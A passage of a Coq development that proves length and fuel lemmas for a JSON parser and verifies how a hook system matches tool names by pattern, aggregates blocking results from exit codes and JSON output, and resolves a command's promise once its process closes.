  - destruct (N.eqb c 101 || N.eqb c 69).
    + assert (Hsign : List.length (snd (Json.lex_exp_sign s1))
                      <= List.length s1).
      { destruct s1 as [|c' r']; simpl; [lia|].
        destruct (N.eqb c' 45); [simpl; lia|].
        destruct (N.eqb c' 43); simpl; lia. }
      destruct (Json.lex_exp_sign s1) as [eneg r1]. simpl in Hsign.
      destruct (Json.span_digits r1) as [ds r'] eqn:Ed.
      apply span_digits_length in Ed.
      destruct (is_empty ds); [discriminate|].
      intros E; injection E as _ <-. lia.
    + intros E; injection E as _ <-. simpl; lia.
Qed.

Lemma lex_number_length (s r : jsstring) (n : JsNumber) :
  Json.lex_number s = Some (n, r) -> List.length r < List.length s.
Proof.
  unfold Json.lex_number.
  pose proof (lex_sign_length s) as H0.
  destruct (Json.lex_sign s) as [negative s1]. simpl in H0.
  destruct (Json.span_digits s1) as [ip s2] eqn:E1.
  apply span_digits_length in E1.
  destruct ip as [|d ds]; [discriminate|].
  destruct (N.eqb d 48 && negb (is_empty ds)); [discriminate|].
  destruct (Json.lex_frac s2) as [[fs s3]|] eqn:E2; [|discriminate].
  apply lex_frac_length in E2.
  destruct (Json.lex_exp s3) as [[e s4]|] eqn:E3; [|discriminate].
  apply lex_exp_length in E3.
  intros E; injection E as _ <-. simpl in E1. lia.
Qed.

Lemma strip_prefix_length (p s r : jsstring) :
  Json.strip_prefix p s = Some r ->
  List.length s = List.length p + List.length r.
Proof.
  revert s; induction p as [|x p IH]; intros s; simpl.
  - intros E; injection E as <-. reflexivity.
  - destruct s as [|y s]; [discriminate|].
    destruct (N.eqb x y); [|discriminate].
    intros E. apply IH in E. simpl. lia.
Qed.

Lemma value_body_carries
    (members members' : list (jsstring * JsValue) -> jsstring -> Json.Parsed)
    (elements elements' : list JsValue -> jsstring -> Json.Parsed)
    (s : jsstring) (x : JsValue * jsstring) :
  carries (fun t => List.length t < List.length s) members members' ->
  carries (fun t => List.length t < List.length s) elements elements' ->
  Json.value_body members elements s = Some x ->
  List.length (snd x) < List.length s /\
  Json.value_body members' elements' s = Some x.
Proof.
  intros Hm He. unfold Json.value_body.
  pose proof (skip_space_length s) as Hs.
  destruct (Json.skip_space s) as [|c r]; [discriminate|]. simpl in Hs.
  destruct (N.eqb c 123).
  { destruct (Json.expect 125 r) as [r'|] eqn:E.
    - apply expect_length in E. intros H; injection H as <-. simpl. split; [lia|reflexivity].
    - intros H. destruct (Hm [] r x) as [Hl Hm']; [lia | exact H |]. split; [lia|exact Hm']. }
  destruct (N.eqb c 91).
  { destruct (Json.expect 93 r) as [r'|] eqn:E.
    - apply expect_length in E. intros H; injection H as <-. simpl. split; [lia|reflexivity].
    - intros H. destruct (He [] r x) as [Hl He']; [lia | exact H |]. split; [lia|exact He']. }
  destruct (N.eqb c 34).
  { destruct (Json.lex_string r []) as [[str r']|] eqn:E; [|discriminate].
    apply lex_string_length in E.
    intros H; injection H as <-. simpl. split; [lia|reflexivity]. }
  destruct (N.eqb c 45 || Json.is_digit c).
  { destruct (Json.lex_number (c :: r)) as [[n r']|] eqn:E; [|discriminate].
    apply lex_number_length in E. simpl in E.
    intros H; injection H as <-. simpl. split; [lia|reflexivity]. }
  destruct (Json.strip_prefix (js "true") (c :: r)) as [r'|] eqn:E1.
  { apply strip_prefix_length in E1. simpl in E1.
    intros H; injection H as <-. simpl. split; [lia|reflexivity]. }
  destruct (Json.strip_prefix (js "false") (c :: r)) as [r'|] eqn:E2.
  { apply strip_prefix_length in E2. simpl in E2.
    intros H; injection H as <-. simpl. split; [lia|reflexivity]. }
  destruct (Json.strip_prefix (js "null") (c :: r)) as [r'|] eqn:E3;
    [|discriminate].
  apply strip_prefix_length in E3. simpl in E3.
  intros H; injection H as <-. simpl. split; [lia|reflexivity].
Qed.

Lemma elements_body_carries (value value' : jsstring -> Json.Parsed)
    (elements elements' : list JsValue -> jsstring -> Json.Parsed)
    (acc : list JsValue) (s : jsstring) (x : JsValue * jsstring) :
  carries (fun t => List.length t <= List.length s)
    (fun _ : unit => value) (fun _ : unit => value') ->
  carries (fun t => List.length t < List.length s) elements elements' ->
  Json.elements_body value elements acc s = Some x ->
  List.length (snd x) < List.length s /\
  Json.elements_body value' elements' acc s = Some x.
Proof.
  intros Hv He. unfold Json.elements_body.
  destruct (value s) as [[v r]|] eqn:Ev; [|discriminate].
  destruct (Hv tt s (v, r)) as [Hl Hv']; [lia | exact Ev |].
  simpl in Hl, Hv'. rewrite Hv'.
  destruct (Json.expect 44 r) as [r'|] eqn:E.
  - apply expect_length in E. intros H.
    destruct (He (v :: acc) r' x) as [Hl' He']; [lia | exact H |].
    split; [lia | exact He'].
  - destruct (Json.expect 93 r) as [r'|] eqn:E'; [|discriminate].
    apply expect_length in E'.
    intros H; injection H as <-. simpl. split; [lia|reflexivity].
Qed.

Lemma members_body_carries (value value' : jsstring -> Json.Parsed)
    (members members' : list (jsstring * JsValue) -> jsstring -> Json.Parsed)
    (acc : list (jsstring * JsValue)) (s : jsstring) (x : JsValue * jsstring) :
  carries (fun t => List.length t < List.length s)
    (fun _ : unit => value) (fun _ : unit => value') ->
  carries (fun t => List.length t < List.length s) members members' ->
  Json.members_body value members acc s = Some x ->
  List.length (snd x) < List.length s /\
  Json.members_body value' members' acc s = Some x.
Proof.
  intros Hv Hm. unfold Json.members_body.
  destruct (Json.expect 34 s) as [r|] eqn:E0; [|discriminate].
  apply expect_length in E0.
  destruct (Json.lex_string r []) as [[key r1]|] eqn:E1; [|discriminate].
  apply lex_string_length in E1.
  destruct (Json.expect 58 r1) as [r2|] eqn:E2; [|discriminate].
  apply expect_length in E2.
  destruct (value r2) as [[v r3]|] eqn:Ev; [|discriminate].
  destruct (Hv tt r2 (v, r3)) as [Hl Hv']; [lia | exact Ev |].
  simpl in Hl, Hv'. rewrite Hv'.
  destruct (Json.expect 44 r3) as [r4|] eqn:E3.
  - apply expect_length in E3. intros H.
    destruct (Hm (define key v acc) r4 x) as [Hl' Hm']; [lia | exact H |].
    split; [lia | exact Hm'].
  - destruct (Json.expect 125 r3) as [r4|] eqn:E4; [|discriminate].
    apply expect_length in E4.
    intros H; injection H as <-. simpl. split; [lia|reflexivity].
Qed.

(** What succeeds with some fuel consumes input, and succeeds with the same
    result on any fuel that is at least twice the length of the input (plus
    one inside brackets). *)
Lemma parse_fuel_invariant (n : nat) :
  (forall s x,
     Json.parse_value n s = Some x ->
     List.length (snd x) < List.length s /\
     forall k, 2 * List.length s <= k -> Json.parse_value k s = Some x) /\
  (forall acc s x,
     Json.parse_elements n acc s = Some x ->
     List.length (snd x) < List.length s /\
     forall k, 2 * List.length s + 1 <= k ->
               Json.parse_elements k acc s = Some x) /\
  (forall acc s x,
     Json.parse_members n acc s = Some x ->
     List.length (snd x) < List.length s /\
     forall k, 2 * List.length s + 1 <= k ->
               Json.parse_members k acc s = Some x).
Proof.
  induction n as [|n [IHv [IHe IHm]]].
  { repeat split; intros; discriminate. }
  assert (Cv : forall (k : nat) (bound : nat),
             (forall t : jsstring, List.length t <= bound -> 2 * List.length t <= k) ->
             carries (fun t => List.length t <= bound)
               (fun _ : unit => Json.parse_value n)
               (fun _ : unit => Json.parse_value k)).
  { intros k bound Hk [] t x Ht H. destruct (IHv t x H) as [Hl Hall].
    split; [exact Hl | apply Hall, Hk, Ht]. }
  assert (Ce : forall (k : nat) (bound : nat),
             (forall t : jsstring,
                List.length t < bound -> 2 * List.length t + 1 <= k) ->
             carries (fun t => List.length t < bound)
               (Json.parse_elements n) (Json.parse_elements k)).
  { intros k bound Hk acc t x Ht H. destruct (IHe acc t x H) as [Hl Hall].
    split; [exact Hl | apply Hall, Hk, Ht]. }
  assert (Cm : forall (k : nat) (bound : nat),
             (forall t : jsstring,
                List.length t < bound -> 2 * List.length t + 1 <= k) ->
             carries (fun t => List.length t < bound)
               (Json.parse_members n) (Json.parse_members k)).
  { intros k bound Hk acc t x Ht H. destruct (IHm acc t x H) as [Hl Hall].
    split; [exact Hl | apply Hall, Hk, Ht]. }
  split; [|split].
  - intros s x H.
    change (Json.value_body (Json.parse_members n) (Json.parse_elements n) s
            = Some x) in H.
    assert (Hlen : List.length (snd x) < List.length s).
    { eapply (value_body_carries (members' := Json.parse_members n)
                (elements' := Json.parse_elements n)); [| |exact H].
      - intros acc t y _ Hy. split; [apply (IHm acc t y Hy) | exact Hy].
      - intros acc t y _ Hy. split; [apply (IHe acc t y Hy) | exact Hy]. }
    split; [exact Hlen|]. intros k Hk.
    destruct k as [|k]; [lia|].
    change (Json.value_body (Json.parse_members k) (Json.parse_elements k) s
            = Some x).
    eapply value_body_carries; [| |exact H].
    + apply Cm. intros t Ht. lia.
    + apply Ce. intros t Ht. lia.
  - intros acc s x H.
    change (Json.elements_body (Json.parse_value n) (Json.parse_elements n)
              acc s = Some x) in H.
    assert (Hlen : List.length (snd x) < List.length s).
    { eapply (elements_body_carries (value' := Json.parse_value n)
                (elements' := Json.parse_elements n)); [| |exact H].
      - intros [] t y _ Hy. split; [apply (IHv t y Hy) | exact Hy].
      - intros a t y _ Hy. split; [apply (IHe a t y Hy) | exact Hy]. }
    split; [exact Hlen|]. intros k Hk.
    destruct k as [|k]; [lia|].
    change (Json.elements_body (Json.parse_value k) (Json.parse_elements k)
              acc s = Some x).
    eapply elements_body_carries; [| |exact H].
    + apply Cv. intros t Ht. lia.
    + apply Ce. intros t Ht. lia.
  - intros acc s x H.
    change (Json.members_body (Json.parse_value n) (Json.parse_members n)
              acc s = Some x) in H.
    assert (Hlen : List.length (snd x) < List.length s).
    { eapply (members_body_carries (value' := Json.parse_value n)
                (members' := Json.parse_members n)); [| |exact H].
      - intros [] t y _ Hy. split; [apply (IHv t y Hy) | exact Hy].
      - intros a t y _ Hy. split; [apply (IHm a t y Hy) | exact Hy]. }
    split; [exact Hlen|]. intros k Hk.
    destruct k as [|k]; [lia|].
    change (Json.members_body (Json.parse_value k) (Json.parse_members k)
              acc s = Some x).
    eapply members_body_carries; [| |exact H].
    + intros [] t y Ht Hy. destruct (IHv t y Hy) as [Hl Hall].
      split; [exact Hl | apply Hall; lia].
    + apply Cm. intros t Ht. lia.
Qed.

(** The fuel that [JSON.parse] takes is enough: what parses with any amount
    of fuel parses with it. *)
Lemma parse_value_fuel (fuel : nat) (text : jsstring) (x : JsValue * jsstring) :
  Json.parse_value fuel text = Some x ->
  Json.parse_value (2 * List.length text + 2) text = Some x.
Proof.
  intros H. destruct (parse_fuel_invariant fuel) as [Hv _].
  destruct (Hv text x H) as [_ Hall]. apply Hall. lia.
Qed.

(* ------------------------------------------------------------------ *)
(** ** The matcher *)

Section MatcherSpec.
Context {engine : RegExpEngine}.

(** C3. [matchesPattern] never throws, and what it returns follows the
    policy: true without a pattern; false with a pattern and no tool name;
    otherwise the test of the compiled pattern against the tool name, or,
    when the pattern does not compile, whether pattern and tool name are
    the same string. *)
Theorem matchesPattern_policy (hookMatcher : HookMatcher)
    (toolName : option jsstring) :
  exists b : bool,
    matchesPattern hookMatcher toolName = Ok b /\
    Selects hookMatcher toolName b.
Proof.
  unfold matchesPattern.
  destruct (matcher hookMatcher) as [[|c pattern]|] eqn:Hm; cbn [is_empty].
  - exists true; split; [reflexivity|].
    apply Selects_unconditional; rewrite Hm; reflexivity.
  - destruct toolName as [[|d name]|]; cbn [is_empty].
    + exists false; split; [reflexivity|].
      apply Selects_fail_closed; [rewrite Hm|]; reflexivity.
    + destruct (RegExp_new (c :: pattern)) as [regex|e] eqn:Hre; simpl.
      * exists (RegExp_test regex (d :: name)); split; [reflexivity|].
        eapply Selects_regex; eauto; rewrite Hm; reflexivity.
      * exists (JsString.eqb (c :: pattern) (d :: name)); split; [reflexivity|].
        eapply Selects_exact; eauto; [rewrite Hm; reflexivity|].
        apply eqb_eq.
    + exists false; split; [reflexivity|].
      apply Selects_fail_closed; [rewrite Hm|]; reflexivity.
  - exists true; split; [reflexivity|].
    apply Selects_unconditional; rewrite Hm; reflexivity.
Qed.

(** The policy leaves no choice: it determines the answer. *)
Lemma Selects_functional (hookMatcher : HookMatcher)
    (toolName : option jsstring) (b b' : bool) :
  Selects hookMatcher toolName b -> Selects hookMatcher toolName b' -> b = b'.
Proof.
  intros H H'.
  destruct H as [Hp | Hp Ht | pattern name regex Hp Ht Hm Hn Hre
                 | pattern name e same Hp Ht Hm Hn Hre Hsame];
    destruct H' as [Hp' | Hp' Ht' | pattern' name' regex' Hp' Ht' Hm' Hn' Hre'
                    | pattern' name' e' same' Hp' Ht' Hm' Hn' Hre' Hsame'];
    try reflexivity; try congruence.
  rewrite Hm in Hm'; rewrite Hn in Hn'.
  injection Hm' as <-; injection Hn' as <-.
  destruct same, same'; try reflexivity.
  - symmetry; apply Hsame', Hsame; reflexivity.
  - apply Hsame, Hsame'; reflexivity.
Qed.

Lemma matchesPattern_total (hookMatcher : HookMatcher)
    (toolName : option jsstring) :
  exists b, matchesPattern hookMatcher toolName = Ok b.
Proof.
  unfold matchesPattern.
  destruct (matcher hookMatcher) as [pattern|]; [|eauto].
  destruct (is_empty pattern); [eauto|].
  destruct toolName as [name|]; [|eauto].
  destruct (is_empty name); [eauto|].
  destruct (RegExp_new pattern); simpl; eauto.
Qed.

End MatcherSpec.

(* ------------------------------------------------------------------ *)
(** ** The loop over the results *)

Lemma get_some_truthy (json : JsValue) (k : jsstring) (v : JsValue) :
  get json k = Some v -> truthy json = true.
Proof. destruct json; simpl; congruence. Qed.

Lemma is_string_truthy (json : JsValue) (k text : jsstring) :
  is_string text (get json k) = true -> truthy json = true.
Proof.
  destruct (get json k) eqn:H; simpl; [|discriminate].
  intros _; eapply get_some_truthy; eauto.
Qed.

Lemma is_false_truthy (json : JsValue) (k : jsstring) :
  is_false (get json k) = true -> truthy json = true.
Proof.
  destruct (get json k) eqn:H; simpl; [|discriminate].
  intros _; eapply get_some_truthy; eauto.
Qed.

(** Case analysis on every test of [process_result]. *)
Ltac split_tests :=
  repeat match goal with
         | |- context [if ?c then _ else _] => destruct c eqn:?
         | |- context [match ?x with Some _ => _ | None => _ end] =>
             destruct x eqn:?
         end.

Lemma process_result_results (acc : HookExecutionResult) (r : HookResult) :
  results (process_result acc r) = results acc.
Proof. unfold process_result. split_tests; reflexivity. Qed.

Lemma process_result_shouldBlock (acc : HookExecutionResult) (r : HookResult) :
  shouldBlock (process_result acc r) = shouldBlock acc || blocks r.
Proof.
  unfold blocks, exit2_blocks, json_blocks, process_result; cbv zeta.
  destruct (jsonOutput r) as [json|].
  - destruct (is_string (js "block") (get json (js "decision"))) eqn:Hd.
    + rewrite (is_string_truthy _ _ _ Hd).
      split_tests; simpl; rewrite ?orb_true_r; reflexivity.
    + split_tests; simpl; rewrite ?orb_true_r, ?orb_false_r; reflexivity.
  - split_tests; simpl; rewrite ?orb_true_r, ?orb_false_r; reflexivity.
Qed.

Lemma process_result_blockReason (acc : HookExecutionResult) (r : HookResult) :
  blockReason (process_result acc r) =
  if blocks r then reason_of r else blockReason acc.
Proof.
  unfold reason_of, blocks, exit2_blocks, json_blocks, process_result; cbv zeta.
  destruct (jsonOutput r) as [json|].
  - destruct (is_string (js "block") (get json (js "decision"))) eqn:Hd.
    + rewrite (is_string_truthy _ _ _ Hd), orb_true_r.
      split_tests; reflexivity.
    + rewrite orb_false_r.
      split_tests; reflexivity.
  - rewrite orb_false_r. split_tests; reflexivity.
Qed.

Lemma process_result_shouldContinue (acc : HookExecutionResult) (r : HookResult) :
  shouldContinue (process_result acc r) = shouldContinue acc && negb (json_stops r).
Proof.
  unfold json_stops, process_result; cbv zeta.
  destruct (jsonOutput r) as [json|].
  - destruct (is_false (get json (js "continue"))) eqn:Hc.
    + rewrite (is_false_truthy _ _ Hc).
      split_tests; simpl; rewrite ?andb_false_r; reflexivity.
    + split_tests; simpl; rewrite ?andb_true_r; reflexivity.
  - split_tests; simpl; rewrite ?andb_true_r; reflexivity.
Qed.

Lemma process_result_stopReason (acc : HookExecutionResult) (r : HookResult) :
  stopReason (process_result acc r) =
  if json_stops r then stop_of r else stopReason acc.
Proof.
  unfold stop_of, json_stops, process_result; cbv zeta.
  destruct (jsonOutput r) as [json|].
  - destruct (is_false (get json (js "continue"))) eqn:Hc.
    + rewrite (is_false_truthy _ _ Hc). split_tests; reflexivity.
    + split_tests; reflexivity.
  - split_tests; reflexivity.
Qed.

(** The loop as a whole, field by field. *)
Lemma loop_results (rs : list HookResult) (acc : HookExecutionResult) :
  results (fold_left process_result rs acc) = results acc.
Proof.
  revert acc; induction rs as [|r rs IH]; intros acc; simpl; [reflexivity|].
  rewrite IH; apply process_result_results.
Qed.

Lemma loop_shouldBlock (rs : list HookResult) (acc : HookExecutionResult) :
  shouldBlock (fold_left process_result rs acc) =
  shouldBlock acc || existsb blocks rs.
Proof.
  revert acc; induction rs as [|r rs IH]; intros acc; simpl.
  - rewrite orb_false_r; reflexivity.
  - rewrite IH, process_result_shouldBlock, orb_assoc; reflexivity.
Qed.

Lemma loop_blockReason_quiet (rs : list HookResult) (acc : HookExecutionResult) :
  existsb blocks rs = false ->
  blockReason (fold_left process_result rs acc) = blockReason acc.
Proof.
  revert acc; induction rs as [|r rs IH]; intros acc; simpl; [reflexivity|].
  rewrite orb_false_iff; intros [Hr Hrs].
  rewrite IH by exact Hrs.
  rewrite process_result_blockReason, Hr; reflexivity.
Qed.

Lemma loop_shouldContinue (rs : list HookResult) (acc : HookExecutionResult) :
  shouldContinue (fold_left process_result rs acc) =
  shouldContinue acc && negb (existsb json_stops rs).
Proof.
  revert acc; induction rs as [|r rs IH]; intros acc; simpl.
  - rewrite andb_true_r; reflexivity.
  - rewrite IH, process_result_shouldContinue, negb_orb, andb_assoc; reflexivity.
Qed.

Lemma aggregate_results (rs : list HookResult) : results (aggregate rs) = rs.
Proof. unfold aggregate; rewrite loop_results; reflexivity. Qed.



(** A later blocking result replaces the reason of an earlier one; a result
    that blocks both ways leaves the structured reason. *)
Lemma loop_blockReason_last (before after : list HookResult) (r : HookResult)
    (acc : HookExecutionResult) :
  blocks r = true ->
  existsb blocks after = false ->
  blockReason (fold_left process_result (before ++ r :: after) acc) = reason_of r.
Proof.
  intros Hr Hafter.
  rewrite fold_left_app. simpl.
  rewrite loop_blockReason_quiet by exact Hafter.
  rewrite process_result_blockReason, Hr; reflexivity.
Qed.

(** Among results of which one blocks there is a last one that does. *)
Lemma last_blocking (rs : list HookResult) :
  existsb blocks rs = true ->
  exists before last after,
    rs = before ++ last :: after /\
    blocks last = true /\
    existsb blocks after = false.
Proof.
  induction rs as [|r rs IH]; simpl; [discriminate|].
  destruct (existsb blocks rs) eqn:Hrs.
  - intros _. destruct (IH eq_refl) as [before [last [after [-> [Hl Ha]]]]].
    exists (r :: before), last, after. repeat split; assumption.
  - rewrite orb_false_r. intros Hr.
    exists [], r, rs. repeat split; assumption.
Qed.

(** C1, as amended.  A result with exit code 2 and a non-empty stderr makes
    the aggregated [shouldBlock] true wherever it stands in the list, and
    [blockReason] is that stderr provided the result carries no structured
    ['block'] decision itself and no result after it blocks.  In every case
    [blockReason] is the reason of the last blocking result of the list,
    which exists: its structured [reason] when its structured output decides
    ['block'], its stderr otherwise. *)
Theorem exit2_blocks_dispatch (before after : list HookResult) (r : HookResult) :
  exitCode r = 2%Z ->
  stderr r <> [] ->
  shouldBlock (aggregate (before ++ r :: after)) = true /\
  (json_blocks r = false ->
   existsb blocks after = false ->
   blockReason (aggregate (before ++ r :: after)) = Some (JString (stderr r))) /\
  (exists before' last after',
     before ++ r :: after = before' ++ last :: after' /\
     blocks last = true /\
     existsb blocks after' = false) /\
  (forall before' last after',
     before ++ r :: after = before' ++ last :: after' ->
     blocks last = true ->
     existsb blocks after' = false ->
     blockReason (aggregate (before ++ r :: after)) =
     if json_blocks last then
       match jsonOutput last with
       | Some json => get json (js "reason")
       | None => None
       end
     else Some (JString (stderr last))).
Proof.
  intros H2 He.
  assert (Hx : exit2_blocks r = true).
  { unfold exit2_blocks. rewrite H2. apply is_empty_false in He.
    rewrite He; reflexivity. }
  assert (Hsome : existsb blocks (before ++ r :: after) = true).
  { rewrite existsb_app. simpl. unfold blocks at 2. rewrite Hx. simpl.
    apply orb_true_r. }
  split; [|split; [|split]].
  - unfold aggregate. rewrite loop_shouldBlock, Hsome. reflexivity.
  - intros Hj Hafter. unfold aggregate.
    rewrite loop_blockReason_last; [| unfold blocks; rewrite Hx; reflexivity
                                    | exact Hafter].
    unfold reason_of. rewrite Hj; reflexivity.
  - exact (last_blocking _ Hsome).
  - intros before' last after' Heq Hl Ha. rewrite Heq. unfold aggregate.
    rewrite loop_blockReason_last by assumption. reflexivity.
Qed.

Lemma exit2_blocks_dispatch_witness :
  shouldBlock (aggregate ([] ++ blocked_by_exit :: [])) = true /\
  blockReason (aggregate ([] ++ blocked_by_exit :: []))
  = Some (JString (js "blocked")) /\
  blockReason (aggregate ([blocked_by_exit] ++ blocked_by_exit :: [says_no]))
  = Some (JString (js "not today")).
Proof.
  destruct (exit2_blocks_dispatch [] [] blocked_by_exit) as [Hb [Hr _]].
  - reflexivity.
  - discriminate.
  - split; [exact Hb|]. split; [apply Hr; reflexivity|].
    destruct (exit2_blocks_dispatch [blocked_by_exit] [says_no]
                blocked_by_exit) as [_ [_ [_ Hlast]]].
    + reflexivity.
    + discriminate.
    + exact (Hlast [blocked_by_exit; blocked_by_exit] says_no []
               eq_refl eq_refl eq_refl).
Defined.

(* ------------------------------------------------------------------ *)
(** ** One command *)

Lemma step_settled (p : Process) (st : Execution) :
  (forall r, settled st = Some r -> closed_by p r) ->
  forall r, settled (step p st) = Some r -> closed_by p r.
Proof.
  intros Hst r. unfold step.
  destruct (next_event st) as [[now [code| |]]|]; simpl.
  - destruct (settled st) as [r0|] eqn:Hs.
    + intros H; injection H as <-. apply Hst; reflexivity.
    + intros H; injection H as <-. exists (var_timedOut st), code; reflexivity.
  - apply Hst.
  - unfold on_grace. destruct (negb (killed (child st))); simpl; apply Hst.
  - apply Hst.
Qed.

(** What the promise of a started command resolves with was built by the
    ['close'] handler. *)
Lemma executeCommand_resolved (command : HookCommand) (eventData : HookEventData)
    (p : Process) (r : HookResult) :
  executeCommand command eventData p = Resolved r -> closed_by p r.
Proof.
  unfold executeCommand.
  destruct (settled (run command p)) as [r0|] eqn:Hs; [|discriminate].
  intros H; injection H as <-.
  revert Hs. unfold run.
  apply step_settled. apply step_settled. apply step_settled.
  simpl; discriminate.
Qed.

(** A promise that resolved is that of a command that was started. *)
Lemma executeCommand_started (command : HookCommand)
    (eventData : HookEventData) (child : Spawn) (r : HookResult) :
  executeCommand command eventData child = Resolved r ->
  exists p, child = Started p /\ closed_by p r.
Proof.
  destruct child as [p|e]; [|discriminate].
  intros H. exists p. split; [reflexivity|].
  exact (executeCommand_resolved _ _ _ H).
Qed.

(** Once the command is started nothing rejects its promise. *)
Lemma executeCommand_not_rejected (command : HookCommand)
    (eventData : HookEventData) (p : Process) (e : JsError) :
  executeCommand command eventData p <> Rejected e.
Proof.
  unfold executeCommand. destruct (settled (run command p)); discriminate.
Qed.

Lemma closed_by_stdout (p : Process) (r : HookResult) :
  closed_by p r -> stdout r = trim (writes_stdout p).
Proof. intros [b [code ->]]; reflexivity. Qed.

Lemma closed_by_stderr (p : Process) (r : HookResult) :
  closed_by p r -> stderr r = trim (writes_stderr p).
Proof. intros [b [code ->]]; reflexivity. Qed.

Lemma closed_by_jsonOutput (p : Process) (r : HookResult) :
  closed_by p r -> jsonOutput r = try_parse (stdout r).
Proof. intros [b [code ->]]; reflexivity. Qed.

Lemma parse_empty : Json.parse [] = Throw SyntaxError.
Proof. reflexivity. Qed.

(** The attempt to parse, as one equation: the empty text is no JSON. *)
Lemma try_parse_eq (text : jsstring) :
  try_parse text =
  match Json.parse text with
  | Ok v => Some v
  | Throw _ => None
  end.
Proof.
  unfold try_parse. destruct text as [|c text]; [reflexivity|].
  reflexivity.
Qed.

(** *** The event loop of one command *)

Lemma react_some (p : Process) (now : Z) (signal : Signal)
    (before : ChildProcess) (due : Z * option Z) :
  react p now signal before (Some due) <> None.
Proof.
  unfold react. destruct due as [t code].
  destruct (exited before); [discriminate|].
  destruct signal; simpl.
  - destruct (sigterm_delay p); simpl; [|discriminate].
    destruct (Z.leb t (now + z)); discriminate.
  - destruct (Z.leb t now); discriminate.
Qed.

Lemma react_exited (p : Process) (now : Z) (signal : Signal)
    (before : ChildProcess) (closing : option (Z * option Z)) :
  exited before = true -> react p now signal before closing = closing.
Proof. unfold react; intros ->; reflexivity. Qed.

Lemma kill_exited (now : Z) (signal : Signal) (child : ChildProcess) :
  exited (kill now signal child) = exited child.
Proof. unfold kill. destruct (exited child) eqn:H; simpl; auto. Qed.

Lemma step_idle (p : Process) (st : Execution) :
  next_event st = None -> step p st = st.
Proof. unfold step; intros ->; reflexivity. Qed.

Lemma step_keeps_settled (p : Process) (st : Execution) (r : HookResult) :
  settled st = Some r -> settled (step p st) = Some r.
Proof.
  intros H. unfold step.
  destruct (next_event st) as [[now [code| |]]|]; simpl; try exact H.
  - rewrite H; reflexivity.
  - unfold on_grace. destruct (negb (killed (child st))); exact H.
Qed.

Ltac case_events :=
  unfold step, next_event, sooner; simpl;
  repeat match goal with
         | |- context [Z.leb ?a ?b] => destruct (Z.leb a b) eqn:?; simpl
         end.

(** While the process is going to close, a step either sees it close or
    uses up a timer. *)
Lemma step_towards_close (p : Process) (st : Execution) :
  closing st <> None ->
  settled (step p st) <> None \/
  (closing (step p st) <> None /\ timer_weight (step p st) < timer_weight st).
Proof.
  destruct st as [b ch tid gid cl se]; simpl.
  destruct cl as [[t code]|]; [intros _|congruence].
  unfold timer_weight.
  destruct tid as [t1|], gid as [t2|]; case_events;
    try (left; destruct se; discriminate);
    right; unfold on_grace; simpl;
    try (destruct (negb (killed ch)); simpl);
    (split; [first [apply react_some | discriminate] | lia]).
Qed.

Lemma steps_keep_settled (n : nat) (p : Process) (st : Execution)
    (r : HookResult) :
  settled st = Some r -> settled (steps n p st) = Some r.
Proof.
  revert st; induction n as [|n IH]; intros st H; simpl; [exact H|].
  apply IH, step_keeps_settled, H.
Qed.

(** With the close of the process due and fewer than [n] timer events to
    come, [n] steps see the process close. *)
Lemma settles_within (n : nat) (p : Process) (st : Execution) :
  closing st <> None ->
  timer_weight st < n ->
  settled (steps n p st) <> None.
Proof.
  revert st; induction n as [|n IH]; intros st Hc Hw; [lia|]. simpl.
  destruct (step_towards_close p st Hc) as [Hs | [Hc' Hw']].
  - destruct (settled (step p st)) as [r|] eqn:E; [|congruence].
    rewrite (steps_keep_settled n p _ E). discriminate.
  - apply IH; [exact Hc' | lia].
Qed.

(** A process that exits by itself, or that goes away on SIGTERM, is seen to
    close: the promise resolves. *)
Lemma executeCommand_resolves (command : HookCommand)
    (eventData : HookEventData) (p : Process) :
  exits_at p <> None \/ sigterm_delay p <> None ->
  exists r, executeCommand command eventData p = Resolved r.
Proof.
  intros H. unfold executeCommand.
  assert (S : settled (run command p) <> None).
  { destruct (exits_at p) as [due|] eqn:Hexit.
    - change (run command p) with (steps 3 p (spawned command p)).
      apply settles_within.
      + simpl. rewrite Hexit. discriminate.
      + unfold timer_weight; simpl; lia.
    - destruct H as [H|H]; [congruence|].
      destruct (sigterm_delay p) as [d|] eqn:Hd; [|congruence].
      change (run command p) with (steps 2 p (step p (spawned command p))).
      apply settles_within.
      + unfold step, next_event, sooner, spawned; simpl. rewrite Hexit. simpl.
        unfold react; simpl. rewrite Hd. discriminate.
      + unfold step, next_event, sooner, spawned; simpl. rewrite Hexit. simpl.
        unfold timer_weight; simpl; lia. }
  destruct (settled (run command p)) as [r|]; [eauto|congruence].
Qed.

Lemma step_coherent (p : Process) (st : Execution) :
  coherent st -> coherent (step p st).
Proof.
  unfold coherent, step.
  destruct (next_event st) as [[now [code| |]]|]; simpl; auto.
  - rewrite kill_exited. intros H E. rewrite react_exited; auto.
  - unfold on_grace. destruct (negb (killed (child st))); simpl; auto.
    rewrite kill_exited. intros H E. rewrite react_exited; auto.
Qed.

(** Every event uses up one of the events to come. *)
Lemma step_weight (p : Process) (st : Execution) :
  coherent st -> next_event st <> None -> weight (step p st) < weight st.
Proof.
  unfold coherent, weight, timer_weight.
  destruct st as [b [ex ki re] tid gid cl se]; simpl.
  intros Hco Hev.
  assert (Hex : cl <> None -> ex = false).
  { destruct ex; [intros H; elim H; auto | reflexivity]. }
  destruct cl as [[t code]|], tid as [t1|], gid as [t2|];
    try (rewrite Hex by discriminate);
    revert Hev; case_events; intros Hev; try congruence;
    unfold on_grace, kill; simpl;
    destruct ki, ex; simpl; lia.
Qed.

Lemma weight_zero_idle (st : Execution) :
  coherent st -> weight st = 0 -> next_event st = None.
Proof.
  unfold coherent, weight, timer_weight, next_event.
  destruct st as [b [ex ki re] tid gid cl se]; simpl.
  intros Hco Hw.
  destruct tid, gid, ex; simpl in Hw; try lia.
  rewrite Hco; reflexivity.
Qed.

(** After the three steps of [run] nothing is left to happen. *)
Lemma run_quiescent (command : HookCommand) (p : Process) :
  next_event (run command p) = None.
Proof.
  unfold run. set (s0 := spawned command p).
  assert (C0 : coherent s0) by (unfold coherent; simpl; discriminate).
  assert (W0 : weight s0 = 3) by reflexivity.
  assert (idle : forall st, next_event st = None ->
                            next_event (step p st) = None).
  { intros st H; rewrite step_idle; auto. }
  pose proof (step_coherent p C0) as C1.
  pose proof (step_coherent p C1) as C2.
  pose proof (step_coherent p C2) as C3.
  destruct (next_event s0) eqn:E0; [|auto].
  assert (W1 : weight (step p s0) < weight s0)
    by (apply step_weight; [exact C0 | congruence]).
  destruct (next_event (step p s0)) eqn:E1; [|auto].
  assert (W2 : weight (step p (step p s0)) < weight (step p s0))
    by (apply step_weight; [exact C1 | congruence]).
